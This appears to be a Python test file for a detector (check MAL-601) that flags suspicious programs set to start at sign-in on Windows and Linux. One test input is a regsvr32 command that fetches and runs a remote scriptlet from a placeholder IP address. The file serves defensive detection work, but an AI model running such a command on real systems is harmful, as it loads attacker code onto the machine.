"""MAL-601: where programs that start at sign-in lie and how they are called."""

from dataclasses import replace

import pytest
from checks.shared.starting import StartsByItself, entry, spared_but, unread

SPARED = {
    "windows": spared_but("at_sign_in", "elsewhere")["windows"],
    "linux": spared_but("at_sign_in")["linux"],
}


class TestAtSignIn(StartsByItself):
    check, field, unseen = "MAL-601", "at_sign_in", "/home/an/.config"

    def test_what_belongs_to_tasks_is_no_matter_here(self, linux, judge):
        facts = self.starting(linux, unseen=("/var/spool/cron/crontabs", "Task Scheduler"))
        assert judge(self.check, linux, facts).message.key == "pass.none"

    @pytest.mark.parametrize(
        ("elsewhere", "key"),
        [
            ((entry("C:\\Windows\\System32\\unregmp2.exe"),), "pass.none"),
            ((entry("C:\\Users\\Public\\x.dll"),), "fail.hiding"),
            ((entry("C:\\Users\\an\\AppData\\Roaming\\x.dll"),), "warn.loose"),
            ((entry("", "regsvr32 /s /u /i:http://203.0.113.9/a scrobj.dll"),), "fail.fetches"),
            (unread("crashed"), "unknown.crashed"),
        ],
    )
    def test_what_windows_starts_from_elsewhere(self, windows, judge, elsewhere, key):
        facts = replace(self.starting(windows), elsewhere=elsewhere)
        assert judge(self.check, windows, facts).message.key == key

    def test_what_fails_stands_though_another_list_was_not_read(self, windows, judge):
        hiding = self.starting(windows, entry("C:\\Users\\Public\\x.exe"))
        facts = replace(hiding, elsewhere=unread("crashed"))
        assert judge(self.check, windows, facts).message.key == "fail.hiding"
